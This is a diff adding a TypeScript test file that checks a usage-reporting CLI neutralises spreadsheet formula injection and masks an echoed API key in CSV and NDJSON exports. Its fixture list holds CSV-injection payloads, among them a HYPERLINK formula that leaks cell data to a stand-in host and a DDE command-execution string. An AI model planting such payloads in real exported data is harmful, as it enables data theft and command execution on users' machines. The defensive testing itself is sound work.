@@ -1,0 +1,96 @@
+// The fifth hardening round: what leaves the machine (CSV a spreadsheet opens, files made to be
+// shared, messages) and what waits (text paths linear in their input, locks that end with the run).
+import { readFileSync } from 'node:fs';
+import { afterEach, describe, expect, it } from 'vitest';
+import { type HostileGateway, againstHostile, balanceBody } from './hostile-gateway.js';
+import { KEY, tempDir } from '../helpers.js';
+
+const NOW = Date.UTC(2026, 10, 21, 12);
+const gateways: HostileGateway[] = [];
+const dirs: { path: string; remove: () => void }[] = [];
+afterEach(async () => {
+  await Promise.all(gateways.splice(0).map((g) => g.close()));
+  dirs.splice(0).forEach((d) => d.remove());
+});
+const dir = () => {
+  const d = tempDir();
+  dirs.push(d);
+  return d.path;
+};
+const DAY = 86_400;
+const TODAY = Date.UTC(2026, 10, 21) / 1000;
+
+const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+
+/** A gateway whose model names are formula text (and one echoes the caller's key), with one negative amount. */
+function formulaGateway() {
+  const series = Array.from({ length: 70 }, (_, i) => `{"t": ${TODAY - (69 - i) * DAY}, "cost": "2.00"}`).join(', ');
+  const models = [...FORMULAS.map((m, i) => ({ model: m, cost: `${i + 1}.25`, requests: 2 })), { model: `leak ${KEY} here`, cost: '0.50', requests: 1 }, { model: 'refund', cost: '-1.5', requests: 1 }];
+  return againstHostile(
+    {
+      name: 'formulas',
+      routes: {
+        '/v1/open/balance': { body: balanceBody() },
+        '/v1/open/usage': { body: `{"scope": "key", "buckets": [${series}], "totals": {"cost": "140.00"}}` },
+        '/v1/open/usage/models': { body: JSON.stringify({ scope: 'key', models }) },
+      },
+    },
+    NOW,
+    gateways,
+  );
+}
+
+/** Every cell of an RFC 4180 text (quotes undone), for looking at what a spreadsheet would be given. */
+function csvCells(text: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') cells.push(cell), (cell = '');
+    else if (c === '\r' && text[i + 1] === '\n') cells.push(cell), (cell = ''), i++;
+    else cell += c;
+  }
+  return cells;
+}
+
+const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
+
+describe('CSV is safe to open', () => {
+  it.each([
+    ['usage --by model', ['usage', '--by', 'model', '--since', '7d', '--csv']],
+    ['usage --by model --bucket day', ['usage', '--by', 'model', '--bucket', 'day', '--since', '3d', '--csv']],
+    ['usage --compare --by model', ['usage', '--compare', 'previous', '--by', 'model', '--since', '7d', '--csv']],
+    ['export', ['export', '--since', '3d', '--csv']],
+  ])('%s: no cell a spreadsheet runs as a formula; amounts (a refund too) untouched', async (_name, argv) => {
+    const { run } = await formulaGateway();
+    const result = await run(argv);
+    expect(result.code, result.stderr).toBe(0);
+    const cells = csvCells(result.stdout);
+    expect(cells.filter(isFormula)).toEqual([]);
+    for (const formula of FORMULAS.slice(0, 4)) expect(cells).toContain(`'${formula}`);
+    if (!argv.includes('--compare')) expect(cells).toContain(argv[0] === 'export' ? '-1.5' : '-1.5');
+  });
+
+  it('the ledger file too, and a key the gateway echoes in a model name is masked in it', async () => {
+    const { run } = await formulaGateway();
+    const file = `${dir()}/ledger.csv`;
+    const result = await run(['export', '--since', '3d', '--csv', '--append', file]);
+    expect(result.code, result.stderr).toBe(0);
+    const text = readFileSync(file, 'utf8');
+    expect(csvCells(text).filter(isFormula)).toEqual([]);
+    expect(text).not.toContain(KEY);
+    expect(text).toContain(`leak ${KEY.slice(0, 8)}…${KEY.slice(-4)} here`);
+    const nd = `${dir()}/ledger.ndjson`;
+    expect((await run(['export', '--since', '3d', '--ndjson', '--append', nd])).code).toBe(0);
+    const lines = readFileSync(nd, 'utf8');
+    expect(lines).not.toContain(KEY);
+    // NDJSON keeps text exactly as sent (but the key).
+    expect(lines).toContain(JSON.stringify(FORMULAS[0]));
+  });
+});
